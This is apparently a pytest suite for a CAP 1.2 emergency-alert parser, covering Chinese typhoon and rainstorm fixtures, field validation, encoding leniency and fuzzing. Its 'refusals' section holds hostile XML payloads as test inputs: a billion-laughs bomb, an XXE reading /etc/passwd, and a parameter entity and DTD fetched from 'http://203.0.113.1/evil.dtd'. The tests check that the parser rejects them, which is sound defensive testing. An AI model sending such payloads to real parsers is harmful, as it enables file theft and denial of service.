"""data_adapters.cap: CAP 1.2 parsing, hostile XML, the emergency_warnings mapping, fuzzing."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from data_adapters.cap import MAX_CAP_BYTES, CapError, parse_cap, to_warning_rows
from data_adapters.schema import table
from data_adapters.validate import check_rows

FIXTURES = Path(__file__).parent / "fixtures" / "cap"
TYPHOON = (FIXTURES / "typhoon_yellow.xml").read_text(encoding="utf-8")
RAINSTORM = (FIXTURES / "rainstorm_orange.xml").read_text(encoding="utf-8")
CANCEL = (FIXTURES / "typhoon_yellow_cancel.xml").read_text(encoding="utf-8")
NOW = datetime(2024, 9, 8, tzinfo=UTC)
CST = timezone(timedelta(hours=8))


def test_typhoon_fixture() -> None:
    alert = parse_cap(TYPHOON.encode("utf-8"))
    assert alert["identifier"] == "44080041600000_20240905083000"
    assert alert["sender"] == "44080041600000"
    assert alert["sent"] == datetime(2024, 9, 5, 0, 30, tzinfo=UTC)
    assert alert["sent"].utcoffset() == timedelta(hours=8)
    assert (alert["status"], alert["msg_type"], alert["scope"]) == ("Actual", "Alert", "Public")
    zh, en = alert["infos"]
    assert (zh["language"], en["language"]) == ("zh-CN", "en-US")
    assert (zh["event"], zh["urgency"], zh["severity"], zh["certainty"]) == (
        "台风黄色预警信号",
        "Expected",
        "Moderate",
        "Likely",
    )
    assert zh["category"] == ["Met"]
    assert zh["sender_name"] == "湛江市气象台"
    assert zh["expires"] == datetime(2024, 9, 6, 20, 0, tzinfo=CST)
    assert zh["parameters"] == {"信号颜色": "黄色"}
    area = zh["areas"][0]
    assert area["area_desc"] == "湛江市"
    polygon = area["polygons"][0]
    assert len(polygon) == 10 and polygon[0] == polygon[-1]
    assert polygon[0] == (110.10, 21.95)  # CAP wrote "21.95,110.10": swapped to (lon, lat)
    assert all(109 < lon < 111 and 20 < lat < 22 for lon, lat in polygon)
    assert len(area["geocodes"]) == 9 and area["geocodes"][0] == ("ADCODE", "440802")
    assert area["circles"] == []


def test_rainstorm_fixture_circle() -> None:
    info = parse_cap(RAINSTORM)["infos"][0]
    assert info["severity"] == "Severe" and info["urgency"] == "Immediate"
    assert info["areas"][0]["circles"] == [((110.36, 21.22), 15.0)]
    assert info["areas"][0]["polygons"] == []


def test_cancel_fixture() -> None:
    alert = parse_cap(CANCEL)
    assert alert["msg_type"] == "Cancel"
    assert alert["references"] == [
        "44080041600000,44080041600000_20240905083000,2024-09-05T08:30:00+08:00"
    ]
    assert alert["note"] is not None and "解除" in alert["note"]


@pytest.mark.parametrize(
    ("xml", "level", "signal", "hazard", "adcodes"),
    [
        (
            TYPHOON,
            "III",
            "yellow",
            "typhoon",
            "440802,440803,440804,440811,440823,440825,440881,440882,440883",
        ),
        (RAINSTORM, "II", "orange", "rainstorm", "440802,440803,440811"),
        (CANCEL, "III", "yellow", "typhoon", "440800"),
    ],
)
def test_warning_rows_follow_the_contract(
    xml: str, level: str, signal: str, hazard: str, adcodes: str
) -> None:
    rows = to_warning_rows(parse_cap(xml), NOW)
    t = table("emergency_warnings")
    assert list(rows.columns) == t.column_names
    checked = check_rows(t, rows, now=NOW)
    assert checked.rejected.empty, checked.rejected.to_dict("records")
    row = rows.iloc[0]
    assert (row.level, row.signal, row.hazard, row.adcodes) == (level, signal, hazard, adcodes)
    polygons = json.loads(row.polygons)
    assert all(p[0] == p[-1] and len(p) >= 4 for p in polygons)


def test_warning_row_details() -> None:
    row = to_warning_rows(parse_cap(TYPHOON), NOW).iloc[0]
    assert row.event == "台风黄色预警信号"  # the Chinese info is preferred
    assert str(row.sent) == "2024-09-05 00:30:00+00:00"
    assert json.loads(row.polygons)[0][0] == [110.10, 21.95]
    circle = json.loads(to_warning_rows(parse_cap(RAINSTORM), NOW).iloc[0].polygons)[0]
    assert len(circle) == 37
    assert all(abs(lat - 21.22) <= 15 / 111.32 + 1e-9 for _, lat in circle)
    with pytest.raises(ValueError, match="timezone"):
        to_warning_rows(parse_cap(TYPHOON), datetime(2024, 9, 8))


def test_level_falls_back_to_severity() -> None:
    xml = TYPHOON.replace("台风黄色预警信号", "台风预警").replace(
        "<severity>Moderate</severity>", "<severity>Extreme</severity>", 1
    )
    row = to_warning_rows(parse_cap(xml), NOW).iloc[0]
    assert (row.level, row.signal) == ("I", "red")
    white = TYPHOON.replace("台风黄色预警信号", "台风白色预警信号").replace(
        "<severity>Moderate</severity>", "<severity>Minor</severity>", 1
    )
    row = to_warning_rows(parse_cap(white), NOW).iloc[0]
    assert (row.level, row.signal) == ("IV", "white")


# ── refusals ──────────────────────────────────────────────────────────────────────────────

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol4;</identifier></alert>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<alert/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://203.0.113.1/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD])
def test_hostile_xml_refused(xml: str) -> None:
    with pytest.raises(CapError, match="unsafe XML"):
        parse_cap(xml)
    with pytest.raises(CapError):
        parse_cap(xml.encode("utf-8"))


def test_too_large_refused() -> None:
    padding = "<!--" + "x" * MAX_CAP_BYTES + "-->"
    with pytest.raises(CapError, match="larger than"):
        parse_cap(TYPHOON.replace("<status>", padding + "<status>"))
    with pytest.raises(CapError, match="larger than"):
        parse_cap("界" * (MAX_CAP_BYTES // 2))  # under the limit in chars, over it in bytes


@pytest.mark.parametrize(
    ("xml", "message"),
    [
        ("not xml at all", "not well-formed"),
        ("", "not well-formed"),
        ("<alert", "not well-formed"),
        (
            TYPHOON.replace(
                "urn:oasis:names:tc:emergency:cap:1.2", "urn:oasis:names:tc:emergency:cap:1.1"
            ),
            "unsupported namespace",
        ),
        ('<feed xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>', "not <alert>"),
        (TYPHOON.replace("<status>Actual</status>", "<status>Real</status>"), "invalid status"),
        (
            TYPHOON.replace("<msgType>Alert</msgType>", "<msgType>Warning</msgType>"),
            "invalid msgType",
        ),
        (TYPHOON.replace("<scope>Public</scope>", "<scope>Everyone</scope>"), "invalid scope"),
        (
            TYPHOON.replace("<severity>Moderate</severity>", "<severity>High</severity>", 1),
            "invalid severity",
        ),
        (
            TYPHOON.replace("<urgency>Expected</urgency>", "<urgency>Soon</urgency>", 1),
            "invalid urgency",
        ),
        (
            TYPHOON.replace(
                "<certainty>Likely</certainty>", "<certainty>Very Likely</certainty>", 1
            ),
            "invalid certainty",
        ),
        (
            TYPHOON.replace("<category>Met</category>", "<category>Weather</category>", 1),
            "invalid category",
        ),
        (TYPHOON.replace("<category>Met</category>", "", 1), "missing required element <category>"),
        (
            TYPHOON.replace("<event>台风黄色预警信号</event>", ""),
            "missing required element <event>",
        ),
        (TYPHOON.replace("<areaDesc>湛江市</areaDesc>", ""), "missing required element <areaDesc>"),
        (
            TYPHOON.replace("2024-09-05T08:30:00+08:00</sent>", "2024-09-05T08:30:00</sent>"),
            "no time zone",
        ),
        (TYPHOON.replace("2024-09-05T08:30:00+08:00</sent>", "yesterday</sent>"), "invalid sent"),
        (
            TYPHOON.replace("2024-09-06T20:00:00+08:00</expires>", "soon</expires>", 1),
            "invalid expires",
        ),
        (
            TYPHOON.replace(
                "21.95,110.10 21.75,110.60 21.50,110.95 21.05,110.65 20.60,110.60 "
                "20.20,110.50 20.20,109.90 20.90,109.65 21.45,109.70 21.95,110.10",
                "21.95,110.10 21.75,110.60 21.95,110.10",
                1,
            ),
            "at least 4",
        ),
        (
            TYPHOON.replace("21.45,109.70 21.95,110.10</polygon>", "21.45,109.70</polygon>", 1),
            "not closed",
        ),
        (TYPHOON.replace("21.05,110.65", "91.05,110.65", 1), "invalid point"),
        (TYPHOON.replace("21.05,110.65", "21.05,190.65", 1), "invalid point"),
        (TYPHOON.replace("21.05,110.65", "21.05;110.65", 1), "invalid point"),
        (TYPHOON.replace("21.05,110.65", "nan,110.65", 1), "invalid point"),
        (RAINSTORM.replace("21.22,110.36 15", "21.22,110.36"), "invalid circle"),
        (RAINSTORM.replace("21.22,110.36 15", "21.22,110.36 -5"), "invalid circle"),
        (RAINSTORM.replace("21.22,110.36 15", "121.22,110.36 5"), "invalid point"),
    ],
)
def test_invalid_cap_refused(xml: str, message: str) -> None:
    with pytest.raises(CapError, match=re.escape(message)):
        parse_cap(xml)


@pytest.mark.parametrize("element", ["identifier", "sender", "sent", "status", "msgType", "scope"])
def test_each_required_alert_element(element: str) -> None:
    xml = re.sub(rf"<{element}>[^<]*</{element}>", "", TYPHOON, count=1)
    with pytest.raises(CapError, match=f"missing required element <{element}>"):
        parse_cap(xml)
    blank = re.sub(rf"<{element}>[^<]*</{element}>", f"<{element}>  </{element}>", TYPHOON, count=1)
    with pytest.raises(CapError, match=f"<{element}>"):
        parse_cap(blank)


def test_cap_error_is_a_value_error() -> None:
    assert issubclass(CapError, ValueError)
    with pytest.raises(CapError, match="str or bytes"):
        parse_cap(42)  # type: ignore[arg-type]


# ── leniency ──────────────────────────────────────────────────────────────────────────────


def test_document_without_namespace_is_read_as_cap_12() -> None:
    bare = TYPHOON.replace(' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', "")
    assert parse_cap(bare) == parse_cap(TYPHOON)


def test_prefixed_namespace() -> None:
    prefixed = re.sub(r"<(/?)([A-Za-z]+)", r"<\1cap:\2", TYPHOON.split("?>", 1)[1])
    prefixed = prefixed.replace('xmlns="', 'xmlns:cap="')
    assert parse_cap(prefixed) == parse_cap(TYPHOON)


def test_gb2312_encoded_bytes() -> None:
    gb = TYPHOON.replace('encoding="UTF-8"', 'encoding="GB2312"').encode("gb2312")
    assert parse_cap(gb)["infos"][0]["event"] == "台风黄色预警信号"
    with pytest.raises(CapError, match="not valid GB2312"):
        parse_cap(gb.replace("台风".encode("gb2312"), b"\xff\xff", 1))


# ── fuzzing: a dict or CapError, nothing else ─────────────────────────────────────────────


@st.composite
def mutated(draw: st.DrawFn) -> str:
    xml = draw(st.sampled_from([TYPHOON, RAINSTORM, CANCEL]))
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(xml)))
        j = draw(st.integers(i, min(len(xml), i + 40)))
        xml = xml[:i] + draw(st.text(max_size=10)) + xml[j:]
    return xml


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(max_size=300),
        st.binary(max_size=300),
        mutated(),
        mutated().map(lambda s: s.encode("utf-8", "surrogatepass")),
    )
)
def test_fuzz_parse_returns_dict_or_cap_error(data: str | bytes) -> None:
    try:
        alert = parse_cap(data)
    except CapError:
        return
    assert isinstance(alert, dict) and alert["identifier"]
    to_warning_rows(alert, NOW)  # a parsed alert always maps to a row
